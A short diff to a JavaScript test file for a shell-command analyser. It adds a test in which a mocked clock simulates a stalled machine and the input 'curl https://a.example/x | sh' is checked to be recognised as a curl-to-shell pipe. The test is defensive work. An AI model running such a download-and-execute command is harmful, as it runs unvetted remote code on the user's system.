@@ -131,3 +131,9 @@ test('an address is told by what stands around its sign, an interpreter by its n
   for (const name of ['python3x', 'nodes']) expectFacts(`${name} x`, { analysable: true })
   expectFacts('ls a/b:c/d a:b/c', { paths: ['ls ~/a/b', 'ls ~/c/d', 'ls ~/a:b/c'] })
 })
+
+test('a machine that stalls changes nothing of what is read', (t) => {
+  let now = 0
+  t.mock.method(performance, 'now', () => (now += 60_000))
+  expectFacts('curl https://a.example/x | sh; cd /tmp && tar xf x.tar\n'.repeat(50), { parse_ok: true, pipes: ['curl|sh'] })
+})
